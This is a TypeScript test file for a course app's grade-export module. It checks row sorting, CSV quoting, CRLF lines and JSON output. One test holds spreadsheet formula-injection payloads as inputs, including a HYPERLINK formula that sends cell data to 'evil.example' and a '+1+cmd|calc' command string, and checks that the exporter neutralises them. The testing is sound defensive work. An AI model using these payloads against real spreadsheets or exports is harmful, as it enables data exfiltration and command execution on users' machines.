import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, test } from 'node:test';
import { Store } from './index';
import { classGradesToCsv, csvField, gradesToCsv, gradesToJson } from './grade-export';

const dir = mkdtempSync(join(tmpdir(), 'drydock-export-test-'));
after(() => rmSync(dir, { recursive: true, force: true }));

describe('grade export', () => {
  const store = new Store(join(dir, 'db.sqlite'));
  store.touchLearner('learner-b');
  store.touchLearner('learner-a');
  const at = Date.UTC(2026, 10, 22, 9, 0, 0);
  store.progress.recordAttempt({ learnerId: 'learner-b', lessonId: 'volumes', exerciseId: 'shared-volume', passed: false, evidence: {}, durationMs: 10, now: at });
  store.progress.recordAttempt({ learnerId: 'learner-a', lessonId: 'containers-101', exerciseId: 'exit-three', passed: false, evidence: {}, durationMs: 10, now: at });
  store.progress.revealHint('learner-a', 'containers-101', 'exit-three', 2, at + 10_000);
  store.progress.showSolution('learner-a', 'containers-101', 'exit-three', at + 30_000);
  store.progress.recordAttempt({ learnerId: 'learner-a', lessonId: 'containers-101', exerciseId: 'exit-three', passed: true, evidence: {}, durationMs: 10, now: at + 60_000 });
  const rows = store.progress.allGrades();
  after(() => store.close());

  test('one row per learner and exercise, sorted, with attempts and the first pass', () => {
    assert.deepEqual(
      rows.map((r) => [r.learnerId, r.exerciseId, r.attempts, r.passed]),
      [
        ['learner-a', 'exit-three', 2, true],
        ['learner-b', 'shared-volume', 1, false],
      ],
    );
  });

  test('CSV has a header, ISO times, empty first_passed_at when never passed, and CRLF lines', () => {
    assert.equal(
      gradesToCsv(rows),
      'learner,lesson,exercise,passed,attempts,first_passed_at,last_attempt_at,hints_used,solution_shown,solution_shown_at,passed_after_solution\r\n' +
        'learner-a,containers-101,exit-three,yes,2,2026-11-22T09:01:00.000Z,2026-11-22T09:01:00.000Z,2,yes,2026-11-22T09:00:30.000Z,yes\r\n' +
        'learner-b,volumes,shared-volume,no,1,,2026-11-22T09:00:00.000Z,0,no,,no\r\n',
    );
  });

  test('CSV quotes fields that need it', () => {
    const csv = gradesToCsv([
      { learnerId: 'a,"b"', lessonId: 'l', exerciseId: 'e', attempts: 1, passed: true, firstPassedAt: null, lastAttemptAt: 0, hintsUsed: 0, solutionShownAt: null, passedAfterSolution: false },
    ]);
    assert.match(csv, /^"a,""b""",l,e,yes,1,,1970-01-01T00:00:00.000Z,0,no,,no\r$/m);
  });

  test('CSV neutralises text a spreadsheet would run as a formula (a leading \' ), then quotes as usual', () => {
    for (const [given, written] of [
      ['=HYPERLINK("http://evil.example/?"&A1,"Ann")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Ann"")"`],
      ['+1+cmd|calc', "'+1+cmd|calc"],
      ['-2+3', "'-2+3"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\t=1', "'\t=1"],
      ['\r=1', `"'\r=1"`],
      ['Ann = Bob', 'Ann = Bob'],
      ['2026-11-22T09:00:00.000Z', '2026-11-22T09:00:00.000Z'],
    ]) {
      assert.equal(csvField(given!), written, JSON.stringify(given));
    }
    const csv = classGradesToCsv('=1+1', [
      { learnerId: 'l1', displayName: '=HYPERLINK("http://evil.example","x")', lessonId: 'l', exerciseId: 'e', passed: false, attempts: 0, firstPassedAt: null, lastAttemptAt: null, solutionShownAt: Date.UTC(2026, 10, 22, 9), hintsUsed: 3, passedAfterSolution: false },
    ]);
    assert.equal(csv.split('\r\n')[0], 'class,name,learner,lesson,exercise,passed,attempts,first_passed_at,last_attempt_at,solution_shown_at,hints_used,solution_shown,passed_after_solution');
    const row = csv.split('\r\n')[1]!;
    assert.equal(row, `'=1+1,"'=HYPERLINK(""http://evil.example"",""x"")",l1,l,e,no,0,,,2026-11-22T09:00:00.000Z,3,yes,no`);
    // No field of the row starts with a formula character once the quoting is undone.
    assert.ok(!/(^|,)"?[=+\-@]/.test(row), row);
  });

  test('JSON carries the same rows with ISO times', () => {
    const parsed = JSON.parse(gradesToJson(rows)) as Record<string, unknown>[];
    assert.equal(parsed.length, 2);
    assert.deepEqual(parsed[0], {
      learnerId: 'learner-a',
      lessonId: 'containers-101',
      exerciseId: 'exit-three',
      attempts: 2,
      passed: true,
      firstPassedAt: '2026-11-22T09:01:00.000Z',
      lastAttemptAt: '2026-11-22T09:01:00.000Z',
      hintsUsed: 2,
      solutionShown: true,
      solutionShownAt: '2026-11-22T09:00:30.000Z',
      passedAfterSolution: true,
    });
    assert.equal(parsed[1]!.firstPassedAt, null);
    assert.equal(parsed[1]!.hintsUsed, 0);
    assert.equal(parsed[1]!.solutionShown, false);
  });
});
